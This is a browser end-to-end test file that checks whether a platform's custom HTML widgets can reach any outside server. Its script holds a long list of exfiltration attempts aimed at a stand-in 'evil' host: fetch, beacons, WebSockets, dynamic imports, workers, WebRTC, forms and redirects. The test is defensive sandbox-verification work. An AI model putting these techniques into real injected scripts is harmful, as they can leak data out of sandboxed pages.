import { expect, type Page, test } from "../fixtures.ts";
import { Outside } from "../harness/outside.ts";
import type { Session } from "../harness/session.ts";

type Setup = { page: Page; juno: Session; channelId: string };
type Widget = { id: string; name: string };

async function create({ juno, channelId }: Setup, name: string, script: string): Promise<Widget> {
  const settings = { html: "<b>custom</b>", script };
  return juno.post<Widget>(`/channels/${channelId}/widgets`, { name, type: "custom_html", settings });
}

async function addressOf({ juno, channelId }: Setup, { id }: Widget): Promise<string> {
  return (await juno.get<{ path: string }>(`/channels/${channelId}/widgets/${id}/key`)).path;
}

/** Every way out that leaves the frame where it is; those that lead it elsewhere are tried at the first activity. */
function attempts({ host, stun }: Outside): string {
  const evil = `http://${host}`;
  const link = (rel: string, more = "") => `<link rel="${rel}" href="${evil}/${rel}" ${more}>`;
  const peer = `const peer = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
  const markup = [
    ...["preconnect", "dns-prefetch", "prefetch", "prerender", "manifest", "icon", "stylesheet"].map((rel) =>
      link(rel),
    ),
    link("preload", 'as="image"'),
    `<iframe src="${evil}/frame"></iframe>`,
    `<object data="${evil}/object"></object>`,
    `<video src="${evil}/video"></video>`,
  ];
  const code = [
    `fetch("${evil}/fetch")`,
    `navigator.sendBeacon("${evil}/beacon", "x")`,
    `new WebSocket("ws://${host}/socket")`,
    `new EventSource("${evil}/events")`,
    `new Image().src = "${evil}/image"`,
    `import("${evil}/module.js")`,
    `new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/worker")'])))`,
    `navigator.serviceWorker.register("${evil}/service-worker.js")`,
    `window.open("${evil}/window")`,
    `top.location.href = "${evil}/top"`,
    peer,
  ];
  const leave = `
    document.body.insertAdjacentHTML("beforeend", '<a href="${evil}/link" ping="${evil}/ping"></a><form action="${evil}/form"></form><meta http-equiv="refresh" content="0;url=${evil}/refresh">');
    document.forms[0].submit();
    document.querySelector("a").click();
    location.href = "${evil}/leave";
  `;
  const added = markup.map((html) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)})`);
  const tries = [...added, ...code].map((attempt) => JSON.stringify(attempt));
  return `
    addEventListener("unhandledrejection", (event) => event.preventDefault());
    let refused = 0;
    for (const attempt of [${tries.join(",\n")}]) {
      const script = document.createElement("script");
      script.textContent = "try { " + attempt + " } catch (error) { refused += 1 }";
      document.head.append(script);
    }
    greenroom.on("activity", () => { ${leave} });
    document.body.append("tried " + document.head.querySelectorAll("script").length, " peers: " + typeof RTCPeerConnection);
  `;
}

async function reachNothing(setup: Setup) {
  const outside = await Outside.open();
  const widget = await create(setup, "Attacks", attempts(outside));
  await setup.page.goto(await addressOf(setup, widget));
  const frame = setup.page.frameLocator("iframe.custom");
  await expect(frame.getByText(/tried \d+/)).toContainText("peers: undefined");
  await setup.juno.post(`/channels/${setup.channelId}/widgets/${widget.id}/test`, { name: "raid" });
  await expect(frame.getByText(/tried/)).toHaveCount(0);
  await fetch(`http://${outside.host}/control`, { signal: AbortSignal.timeout(2_000) }).catch(() => undefined);
  expect(outside.reached).toEqual(["connection", "GET /control HTTP/1.1"]);
  outside.close();
}

test("own code reaches no other server and never stops its page", async ({ page, enter }) => {
  const juno = await enter(page, "junoplays");
  const { id: channelId } = await juno.post<{ id: string }>("/channels", { display_name: "Late Shift" });
  const setup = { page, juno, channelId };
  await test.step("every way out is closed [P7]", () => reachNothing(setup));
});
